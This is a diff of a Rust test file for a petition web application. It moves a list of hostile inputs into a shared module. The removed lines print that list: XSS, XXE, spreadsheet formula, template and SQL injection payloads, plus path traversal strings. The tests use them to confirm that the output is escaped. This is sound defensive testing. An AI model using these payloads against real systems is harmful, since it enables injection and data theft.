@@ -1,5 +1,5 @@
-//! Sixty-four texts that would be a script, an element, an attribute, a formula or a
-//! query somewhere, through every field: they come out as the text they are.
+//! Texts that would be a script, an element, an attribute, a formula or a query somewhere,
+//! through every field: they come out as the text they are.
 
 use std::fmt::Write as _;
 use std::io::{Cursor, Read};
@@ -9,77 +9,11 @@ use resvg::usvg::roxmltree;
 
 use crate::support::app::App;
 use crate::support::database::{Database, on_both_databases};
+use crate::support::hostile::{ROUGH, STRINGS};
 use crate::support::petition::{COMMUNE, Pass, post};
 use crate::support::staff::Member;
 
 on_both_databases![every_hostile_text_comes_out_as_text_on_pages_and_in_csv];
-
-const HOSTILE: [&str; 64] = [
-    "<script>window.hacked=1</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "\"><script>window.hacked=1</script>",
-    "'><script>window.hacked=1</script>",
-    "</textarea><script>window.hacked=1</script>",
-    "</title><script>window.hacked=1</script>",
-    "</option></select><img src=x onerror=window.hacked=1>",
-    "<img src=x onerror=window.hacked=1>",
-    "<img src=\"x\" onerror=\"window.hacked=1\">",
-    "<svg onload=window.hacked=1>",
-    "<svg><script>window.hacked=1</script></svg>",
-    "<body onload=window.hacked=1>",
-    "<iframe src=javascript:window.hacked=1>",
-    "<a href=\"javascript:window.hacked=1\">x</a>",
-    "<a href=javascript&colon;window.hacked=1>x</a>",
-    "<form action=//evil.example><input name=pin>",
-    "<input autofocus onfocus=window.hacked=1>",
-    "<details open ontoggle=window.hacked=1>",
-    "<video><source onerror=window.hacked=1>",
-    "<math><mtext></mtext><script>window.hacked=1</script></math>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<base href=//evil.example/>",
-    "<object data=//evil.example></object>",
-    "<embed src=//evil.example>",
-    "<!--",
-    "-->",
-    "<![CDATA[x]]>",
-    "<?xml version=\"1.0\"?>",
-    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
-    "&e;&lt;script&gt;",
-    "&#60;script&#62;",
-    "\" onmouseover=\"window.hacked=1",
-    "' onmouseover='window.hacked=1",
-    "\" autofocus onfocus=\"window.hacked=1\" x=\"",
-    "javascript:window.hacked=1",
-    "data:text/html,<script>window.hacked=1</script>",
-    "{{ shell.asset(\"x\") }}",
-    "{% include \"field.html\" %}",
-    "{ $rate }",
-    "${window.hacked=1}",
-    "#{7*7}",
-    "</w:t></w:r><w:r><w:t>x",
-    "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>",
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example\",\"x\")",
-    "+1+1",
-    "-1+1",
-    "@SUM(1;1)",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "\t=1+1",
-    "\"=1+1",
-    "a,\"b\"\r\n=1+1",
-    "'; drop table petitions; --",
-    "\" or \"\"=\"",
-    "%s%n%00",
-    "../../etc/passwd",
-    "\u{202e}gnp.exe\u{2066}<b>",
-    "Zalgo\u{301}\u{302}\u{303}\u{fffe}\u{0}<b>",
-];
 
 /// `text` as templates write it.
 fn escaped(text: &str) -> String {
@@ -106,8 +40,8 @@ fn has_as_text(page: &str, text: &str, what: &str) {
 
 #[test]
 fn the_look_itself_sees_a_text_that_is_not_escaped() {
-    let page = format!("<p>{}</p>", HOSTILE[0]);
-    assert!(std::panic::catch_unwind(|| has_as_text(&page, HOSTILE[0], "planted")).is_err());
+    let page = format!("<p>{}</p>", STRINGS[0]);
+    assert!(std::panic::catch_unwind(|| has_as_text(&page, STRINGS[0], "planted")).is_err());
 }
 
 async fn every_hostile_text_comes_out_as_text_on_pages_and_in_csv(database: Database) {
@@ -115,7 +49,7 @@ async fn every_hostile_text_comes_out_as_text_on_pages_and_in_csv(database: Data
     let lan = Member::signed_in(&app, "lan", Role::CentreStaff, "/56/22651/").await;
     let form = format!("/p/{COMMUNE}");
     let mut cells = Vec::new();
-    for hostile in HOSTILE {
+    for hostile in STRINGS.into_iter().chain(ROUGH) {
         let text = surveys::petition::cleaned(hostile);
         let line = surveys::petition::cleaned_line(hostile);
         let typed = [("subject", hostile), ("text", hostile), ("person", hostile)];
@@ -160,7 +94,7 @@ async fn every_hostile_text_comes_out_as_text_on_pages_and_in_csv(database: Data
     let csv = csv.text().await.unwrap();
     let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
     let rows: Vec<_> = rows.records().map(Result::unwrap).collect();
-    assert_eq!(rows.len(), HOSTILE.len());
+    assert_eq!(rows.len(), STRINGS.len() + ROUGH.len());
     for cell in rows.iter().flat_map(csv::StringRecord::iter) {
         let starts = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
         assert!(!starts, "{cell} would be run");
@@ -178,10 +112,12 @@ async fn every_hostile_text_comes_out_as_text_on_pages_and_in_csv(database: Data
 async fn every_hostile_text_is_text_in_the_letter_of_apology() {
     let app = App::spawn(Database::sqlite());
     let lan = Member::signed_in(&app, "lan", Role::CentreStaff, "/56/22651/").await;
-    for hostile in HOSTILE {
+    for hostile in STRINGS.into_iter().chain(ROUGH) {
         let short: String = hostile.chars().take(20).collect();
+        let name: String = hostile.chars().take(60).collect();
         let mut fields: Vec<(&str, &str)> =
-            ["addressee", "matter", "reason", "title", "signer"].map(|id| (id, hostile)).into();
+            ["addressee", "matter", "reason"].map(|id| (id, hostile)).into();
+        fields.extend(["title", "signer"].map(|id| (id, &*name)));
         fields.extend([("number", &*short), ("due", "15/10/2026"), ("new_due", "20/10/2026")]);
         let docx = lan.post("/staff/apology", &[&fields[..], &[("kind", "docx")]].concat()).await;
         assert_eq!(docx.status(), 200, "{hostile:?}");
